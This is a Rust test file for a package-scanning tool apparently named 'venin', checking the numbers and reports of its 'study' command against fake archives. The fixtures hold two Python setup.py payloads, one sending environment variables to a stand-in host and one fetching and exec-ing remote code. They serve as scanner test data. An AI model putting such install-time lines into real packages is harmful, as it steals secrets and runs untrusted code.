//! `venin study` over a small inert data set of known composition.

use std::collections::BTreeMap;
use std::io::Write;
use std::path::Path;

use serde_json::Value;

use crate::{Run, run, venin};

/// Reads the environment and sends it to a documentation address.
const STEALS: &str = "import os, urllib.request\n\
    urllib.request.urlopen('http://198.51.100.7/x', data=str(dict(os.environ)).encode())\n";
/// Fetches code and runs it.
const FETCHES: &str = "import urllib.request\n\
    exec(urllib.request.urlopen('http://bad.invalid/p').read())\n";

fn archive(name: &str, version: &str, text: &str) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    zip.start_file(format!("{name}-{version}/setup.py"), zip::write::SimpleFileOptions::default()).unwrap();
    zip.write_all(
        format!("from setuptools import setup\n{text}setup(name='{name}', version='{version}')\n").as_bytes(),
    )
    .unwrap();
    zip.finish().unwrap().into_inner()
}

/// Two releases of a thief, a dropper, a harmless project, a copy of the dropper, and half an archive.
fn workplace() -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    let write = |inside: &str, bytes: &[u8]| {
        let path = folder.path().join("tree").join(inside);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, bytes).unwrap();
    };
    write("thief/1.0/thief-1.0.zip", &archive("thief", "1.0", STEALS));
    write("thief/1.1/thief-1.1.zip", &archive("thief", "1.1", STEALS));
    write("dropper/2.0/dropper-2.0.zip", &archive("dropper", "2.0", FETCHES));
    write("copies/dropper-2.0.zip", &archive("dropper", "2.0", FETCHES));
    write("calm/3.0/calm-3.0.zip", &archive("calm", "3.0", "x = 1\n"));
    let half = archive("torn", "1.0", &"y = 1\n".repeat(200));
    write("torn/1.0/torn-1.0.zip", &half[..half.len() / 2]);
    write("README", b"no archive");
    folder
}

fn study(folder: &Path, words: &[&str]) -> Run {
    let mut command = venin(&["study"]);
    run(command.args(words).current_dir(folder).env("XDG_DATA_HOME", folder.join("data")))
}

fn read(folder: &Path, name: &str) -> Value {
    serde_json::from_slice(&std::fs::read(folder.join(name)).unwrap()).unwrap()
}

/// The cell of a table in a `study.json`, by the text of the first column and the id of a column.
fn cell<'a>(study: &'a Value, table: &str, row: &str, column: &str) -> &'a Value {
    let tables = study["chapters"].as_array().unwrap().iter().flat_map(|c| c["tables"].as_array().unwrap());
    let table = tables.into_iter().find(|t| t["id"] == table).unwrap();
    let at = table["columns"].as_array().unwrap().iter().position(|c| c["id"] == column).unwrap();
    let rows = table["rows"].as_array().unwrap();
    &rows.iter().find(|r| r["cells"][0] == row).unwrap()["cells"][at]
}

/// Every file of a study but the cache of scans.
fn files(folder: &Path) -> BTreeMap<String, Vec<u8>> {
    let mut found = BTreeMap::new();
    for part in ["", "tables"] {
        for entry in std::fs::read_dir(folder.join(part)).unwrap() {
            let path = entry.unwrap().path();
            let name = path.strip_prefix(folder).unwrap().display().to_string();
            if path.is_file() && !name.starts_with("scans.sqlite3") {
                found.insert(name, std::fs::read(path).unwrap());
            }
        }
    }
    found
}

#[test]
fn a_known_data_set_gives_the_known_numbers_and_the_same_bytes_again() {
    let folder = workplace();
    let first =
        study(folder.path(), &["tree", "--to", "one", "--source", "dataset", "--class", "dataset=paper"]);
    assert_eq!(first.code, 0, "{}", first.stderr);
    let made = read(folder.path(), "one/study.json");
    let scope = &made["scope"];
    assert_eq!(
        (&scope["files"], &scope["artifacts"], &scope["projects"]),
        (&6.into(), &5.into(), &4.into()),
        "{scope}"
    );
    assert_eq!(cell(&made, "sources", "paper", "artifacts"), 5);
    assert_eq!(cell(&made, "sources", "paper", "releases"), 5);
    assert_eq!(cell(&made, "sizes", "with malicious lines", "artifacts"), 3);
    let text = String::from_utf8(std::fs::read(folder.path().join("one/tables/kinds.csv")).unwrap()).unwrap();
    assert!(text.starts_with("kind,artifacts,share\n"), "{text}");
    let second =
        study(folder.path(), &["tree", "--to", "one", "--source", "dataset", "--class", "dataset=paper"]);
    assert!(second.stderr.contains("5 of 5 artifacts were scanned before"), "{}", second.stderr);
    let third =
        study(folder.path(), &["tree", "--to", "two", "--source", "dataset", "--class", "dataset=paper"]);
    assert_eq!(third.code, 0);
    let (one, two) = (files(&folder.path().join("one")), files(&folder.path().join("two")));
    assert!(one.len() > 5 && one.keys().eq(two.keys()), "{:?}", one.keys());
    for (name, bytes) in &one {
        assert!(two[name] == *bytes, "{name} differs between two runs");
    }
}

#[test]
fn what_was_not_wholly_read_is_told() {
    let folder = workplace();
    let told = study(folder.path(), &["tree/torn"]);
    assert!(told.stdout.contains("not wholly looked at"), "{}", told.stdout);
}

#[test]
fn the_vault_is_studied_where_no_path_is_named() {
    let folder = workplace();
    let nothing = study(folder.path(), &[]);
    assert_eq!(nothing.code, 2);
    assert!(nothing.stderr.contains("there is nothing to study"), "{}", nothing.stderr);
    let data = folder.path().join("data");
    let words = ["vault", "import", "tree", "--source", "osv"];
    assert_eq!(run(venin(&words).current_dir(folder.path()).env("XDG_DATA_HOME", &data)).code, 0);
    let done = study(folder.path(), &["--to", "out"]);
    assert_eq!(done.code, 0, "{}", done.stderr);
    let made = read(folder.path(), "out/study.json");
    assert_eq!(cell(&made, "sources", "open database", "artifacts"), 5);
    assert!(made["scope"]["claims"].as_u64().unwrap() > 0, "the store beside the vault is read");
}

#[test]
fn wrong_words_are_one_clear_error() {
    let folder = workplace();
    let missing = study(folder.path(), &["nowhere"]);
    assert_eq!(missing.code, 2);
    assert!(missing.stderr.contains("there is no `nowhere`"), "{}", missing.stderr);
    let class = study(folder.path(), &["tree", "--class", "x=rumor"]);
    assert_eq!(class.code, 2);
    assert!(class.stderr.contains("the classes are paper, code hosting"), "{}", class.stderr);
    let foreign = study(folder.path(), &["tree", "--to", "tree"]);
    assert_eq!(foreign.code, 2);
    assert!(foreign.stderr.contains("holds other things than a study"), "{}", foreign.stderr);
}

#[test]
fn a_study_of_an_empty_folder_says_so() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::create_dir(folder.path().join("empty")).unwrap();
    let done = study(folder.path(), &["empty", "--no-store"]);
    assert_eq!(done.code, 0, "{}", done.stderr);
    assert!(done.stdout.contains("There is no artifact"), "{}", done.stdout);
}
